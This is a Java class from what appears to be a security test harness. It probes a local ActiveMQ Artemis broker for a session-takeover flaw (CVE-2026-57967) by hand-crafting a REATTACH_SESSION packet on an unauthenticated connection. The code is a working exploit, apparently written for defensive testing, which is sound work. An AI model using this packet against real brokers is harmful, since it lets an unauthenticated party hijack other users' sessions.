package org.workbinroutes.attacks;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.EOFException;
import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import org.apache.activemq.artemis.api.core.client.ClientSession;
import org.apache.activemq.artemis.api.core.client.ClientSessionFactory;
import org.apache.activemq.artemis.core.client.impl.ClientSessionInternal;
import org.apache.activemq.artemis.jms.client.ActiveMQConnectionFactory;

/** A connection without a login asks to go on with the session of another (CVE-2026-57967). */
record SessionReattach() implements Attack {
  private static final byte REATTACH = 32;
  private static final byte REATTACH_ANSWER = 33;
  private static final long CHANNEL_OF_SESSIONS = 1;

  @Override
  public String name() {
    return "broker: take over the session of another";
  }

  @Override
  public String who() {
    return "who reaches workbin.broker.port and knows a session's name (a UUID)";
  }

  @Override
  public boolean isBrief() {
    return true;
  }

  @Override
  public Effect run(Target target) throws Exception {
    try (ActiveMQConnectionFactory jms = target.product().broker()) {
      jms.setConfirmationWindowSize(1024 * 1024);
      try (ClientSessionFactory factory = jms.getServerLocator().createSessionFactory();
          ClientSession session = BrokerUser.session(factory)) {
        session.start();
        String answer = reattach(target, ((ClientSessionInternal) session).getName());
        return new Effect(
            "REATTACH_SESSION with the name of a living session, on a connection without login",
            answer,
            !answer.startsWith("taken over"));
      }
    }
  }

  private static String reattach(Target target, String session) throws IOException {
    try (Socket socket =
        new Socket(InetAddress.getLoopbackAddress(), target.product().brokerPort())) {
      socket.setSoTimeout(5_000);
      ByteArrayOutputStream body = new ByteArrayOutputStream();
      DataOutputStream packet = new DataOutputStream(body);
      packet.writeByte(REATTACH);
      packet.writeLong(CHANNEL_OF_SESSIONS);
      packet.writeInt(session.length());
      packet.writeUTF(session);
      packet.writeInt(-1);
      DataOutputStream out = new DataOutputStream(socket.getOutputStream());
      out.write("ARTEMIS".getBytes(StandardCharsets.US_ASCII));
      out.writeInt(body.size());
      out.write(body.toByteArray());
      out.flush();
      DataInputStream in = new DataInputStream(socket.getInputStream());
      int length = in.readInt();
      byte[] answer = in.readNBytes(length);
      if (answer[0] != REATTACH_ANSWER) {
        return "answered with packet " + answer[0];
      }
      // type, channel, last confirmed command, whether it is reattached
      return answer[answer.length - 1] == 0 ? "refused" : "taken over";
    } catch (SocketTimeoutException silent) {
      return "no answer";
    } catch (EOFException closed) {
      return "connection closed";
    }
  }
}
